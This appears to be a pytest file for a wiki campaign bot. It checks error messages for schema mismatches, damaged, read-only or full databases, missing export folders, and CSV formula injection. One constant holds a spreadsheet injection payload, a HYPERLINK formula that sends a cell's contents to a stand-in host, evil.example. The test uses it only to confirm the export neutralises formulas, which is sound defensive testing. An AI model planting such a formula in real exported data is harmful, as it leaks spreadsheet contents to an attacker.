"""Bad input is refused in plain words (issue 16): a database of a newer schema version, a
damaged, read-only or full database, an export into a missing folder, and CSV cells a
spreadsheet would run as formulas. Real SQLite files; the wiki is never reached (each
refusal comes before any request), so the config points at a closed port."""

from __future__ import annotations

import csv
import io
import os
import sqlite3
import subprocess
from collections.abc import Iterator
from pathlib import Path

import pytest
import sqlite_utils

from bot import store
from bot.store.opening import version_of
from tests.helpers import lib1ref, write_config

DEAD_API = "http://127.0.0.1:9/api.php"  # nothing listens: a request would fail loudly
EVIL = '=HYPERLINK("https://evil.example/?"&A1,"click") #1Lib1Ref'


@pytest.fixture
def config(tmp_path: Path) -> Path:
    return write_config(tmp_path, DEAD_API)


def ours() -> int:
    return max(version_of(m.name) for m in store.migrations._migrations)


def make_db(path: Path) -> None:
    store.open_db(path).conn.close()


def one_error_line(capsys: pytest.CaptureFixture[str]) -> str:
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1, err
    return err[0]


@pytest.mark.parametrize("command", [("scan",), ("status",), ("export", "edits"), ("welcome",)])
def test_a_newer_schema_is_refused_naming_both_versions_and_changing_nothing(
    config: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], command: tuple[str, ...]
) -> None:
    db_path = tmp_path / "lib1ref.sqlite"
    make_db(db_path)
    with sqlite3.connect(db_path) as conn:
        conn.execute(
            "INSERT INTO _sqlite_migrations (migration_set, name, applied_at) "
            "VALUES ('lib1ref', 'm099_from_the_future', '2030-01-01')"
        )
    conn.close()
    before = db_path.read_bytes()
    capsys.readouterr()
    assert lib1ref(config, *command) == 1
    line = one_error_line(capsys)
    assert "schema version 99 (m099_from_the_future)" in line
    assert f"this bot's {ours()} " in line
    assert db_path.read_bytes() == before


@pytest.mark.parametrize(
    "command", [("status",), ("export", "edits"), ("leaderboard", "--dry-run")]
)
def test_an_older_schema_is_refused_by_readers_until_a_scan_upgrades_it(
    config: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], command: tuple[str, ...]
) -> None:
    """After an upgrade of the bot, before its first scan: a read-only command says what to do
    in one line instead of failing on a column the old schema lacks, and changes nothing."""
    db_path = tmp_path / "lib1ref.sqlite"
    older = sqlite_utils.Database(db_path)  # as the bot before `judge` (m003) left it
    store.migrations.apply(older, stop_before="m003_judge")
    older.conn.close()
    before = db_path.read_bytes()
    capsys.readouterr()
    assert lib1ref(config, *command) == 1
    line = one_error_line(capsys)
    assert "schema version 2, older than this bot's" in line and "lib1ref scan" in line, line
    assert db_path.read_bytes() == before


def test_a_damaged_database_is_named_in_plain_words(
    config: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db_path = tmp_path / "lib1ref.sqlite"
    db_path.write_bytes(b"this is a text file, not a database\n" * 200)
    for command in (("scan",), ("status",), ("export", "edits")):
        assert lib1ref(config, *command) == 1
        line = one_error_line(capsys)
        assert f"database {db_path} is not a SQLite database" in line, line
        assert "unexpected" not in line


@pytest.fixture
def immutable(tmp_path: Path) -> Iterator[Path]:
    """A database no process may write, not even root (`chattr +i`)."""
    db_path = tmp_path / "lib1ref.sqlite"
    make_db(db_path)
    if subprocess.run(["chattr", "+i", str(db_path)], check=False).returncode:
        pytest.skip("chattr +i is not supported on this file system")
    try:
        yield db_path
    finally:
        subprocess.run(["chattr", "-i", str(db_path)], check=True)


def test_a_read_only_database_is_named_in_plain_words(
    config: Path, immutable: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    assert lib1ref(config, "scan") == 1
    line = one_error_line(capsys)
    assert f"database {immutable} is read-only" in line, line
    assert lib1ref(config, "status") == 0  # reading it still works


@pytest.fixture
def full_disk(tmp_path: Path) -> Iterator[Path]:
    """A database on a small file system of its own (tmpfs), filled up to the last byte."""
    mount = tmp_path / "small-disk"
    mount.mkdir()
    cmd = ["mount", "-t", "tmpfs", "-o", "size=256k", "tmpfs", str(mount)]
    if subprocess.run(cmd, capture_output=True, check=False).returncode:
        pytest.skip("cannot mount a small tmpfs here (needs root)")
    try:
        make_db(mount / "lib1ref.sqlite")
        fd = os.open(mount / "filler", os.O_WRONLY | os.O_CREAT)
        with pytest.raises(OSError, match="No space"):
            while True:
                os.write(fd, b"x" * 512)
        os.close(fd)
        yield mount / "lib1ref.sqlite"
    finally:
        subprocess.run(["umount", "-l", str(mount)], check=True)


def test_a_full_disk_is_named_in_plain_words(
    tmp_path: Path, full_disk: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    config = write_config(tmp_path, DEAD_API, database=str(full_disk))
    assert lib1ref(config, "scan") == 1
    line = one_error_line(capsys)
    assert f"database {full_disk} cannot be written: the disk is full" in line, line


def test_export_into_a_missing_folder_says_so(
    config: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    make_db(tmp_path / "lib1ref.sqlite")
    target = tmp_path / "no-such-folder" / "edits.csv"
    assert lib1ref(config, "export", "edits", "--output", str(target)) == 2
    line = one_error_line(capsys)
    assert f"the folder {target.parent} does not exist" in line
    assert not target.parent.exists()


def test_csv_export_neutralises_formulas(
    config: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    db_path = tmp_path / "lib1ref.sqlite"
    db = store.open_db(db_path)
    with db.atomic():
        db.execute(
            "INSERT INTO campaigns VALUES ('test', '2026-01-01', '2026-12-31', '[]', '[]', '[0]')"
        )
        db.execute(
            "INSERT INTO participants VALUES ('test', 'local', '@Mallory', 'registered', "
            "'2026-01-15T00:00:00Z')"
        )
        db.execute(
            """INSERT INTO edits (campaign_id, wiki, revid, parent_revid, page_id, page_title,
                namespace, user, user_kind, timestamp, comment, hashtags, citations_added,
                citations_well_formed, reused, cn_removed, is_creation)
               VALUES ('test', 'local', 7, 6, 1, '-1+1', 0, '@Mallory', 'registered',
                '2026-01-15T00:00:00Z', ?, '["1lib1ref"]', 1, 1, 0, 0, 0)""",
            [EVIL],
        )
    db.conn.close()
    out = tmp_path / "edits.csv"
    assert lib1ref(config, "export", "edits", "--format", "csv", "--output", str(out)) == 0
    (row,) = list(csv.DictReader(io.StringIO(out.read_text("utf-8"))))
    assert row["comment"] == "'" + EVIL
    assert row["page_title"] == "'-1+1"
    assert row["user"] == "'@Mallory"
    assert row["revid"] == "7"
    for cell in row.values():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
    assert lib1ref(config, "export", "edits") == 0  # JSON keeps the text as it is
    assert EVIL.replace('"', '\\"') in capsys.readouterr().out


def test_a_reader_sees_no_database_or_the_whole_schema_never_half(
    config: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """The first scan creates the schema in one transaction: a `status` started meanwhile
    finds no database (exit 2), and once it is committed, all of it."""
    from bot.store import opening

    db_path = tmp_path / "lib1ref.sqlite"
    creating = opening.connect(db_path, readonly=False)
    creating.conn.execute("BEGIN IMMEDIATE")
    store.migrations.apply(creating)  # every table made, not committed yet
    assert lib1ref(config, "status") == 2
    assert "no database" in one_error_line(capsys)
    creating.conn.commit()
    creating.conn.close()
    assert lib1ref(config, "status") == 0
    assert "no such table" not in capsys.readouterr().err
